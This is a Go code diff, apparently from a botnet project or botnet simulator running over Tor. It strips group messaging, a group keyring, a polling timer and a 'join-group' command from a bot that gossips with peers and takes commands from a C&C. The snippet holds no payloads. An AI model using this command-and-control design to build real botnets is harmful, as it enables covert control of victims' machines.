@@ -172,7 +172,6 @@ type Bot struct {
 	dialing map[string]struct{}
 	seen    map[[16]byte]struct{}
 	guard   *botcrypto.ReplayGuard
-	groups  *botcrypto.GroupKeyring
 
 	stage    Stage
 	alive    bool
@@ -260,7 +259,6 @@ func NewBotOnProxy(proxy *tor.OnionProxy, net *tor.Network, cfg BotConfig, maste
 		alive:         true,
 	}
 	b.guard = botcrypto.NewReplayGuard(b.cfg.ReplayWindow)
-	b.groups = botcrypto.NewGroupKeyring()
 	if b.cfg.Retry.Enabled() {
 		proxy.Retry = b.cfg.Retry
 	}
@@ -307,7 +305,6 @@ func newBotWithMaterial(proxy *tor.OnionProxy, net *tor.Network, cfg BotConfig,
 		alive:           true,
 	}
 	b.guard = botcrypto.NewReplayGuard(b.cfg.ReplayWindow)
-	b.groups = botcrypto.NewGroupKeyring()
 	if b.cfg.Retry.Enabled() {
 		proxy.Retry = b.cfg.Retry
 	}
@@ -342,7 +339,6 @@ const (
 	botTickPing uint8 = iota
 	botTickGossip
 	botTickRotate
-	botTickPoll
 )
 
 // startTimers installs the bot's recurring maintenance timers. They are
@@ -376,8 +372,6 @@ func (b *Bot) BatchTick(tag uint8) bool {
 		b.gossipNoN()
 	case botTickRotate:
 		b.maybeRotate()
-	case botTickPoll:
-		_ = b.Poll()
 	}
 	return true
 }
@@ -690,8 +684,6 @@ func (b *Bot) onMessage(conn *tor.Conn, raw []byte) {
 		b.handleBroadcast(env)
 	case MsgDirected:
 		b.handleDirected(env)
-	case MsgGroupcast:
-		b.handleGroupcast(env)
 	case MsgReport:
 		// Only the C&C consumes reports; bots ignore them.
 	}
@@ -919,8 +911,6 @@ func (b *Bot) execute(cmd *Command) {
 		b.rotate()
 	case "drop-peer":
 		b.forgetPeer(string(cmd.Args))
-	case "join-group":
-		b.joinGroup(cmd.Args)
 	}
 	b.stage = StageWaiting
 }
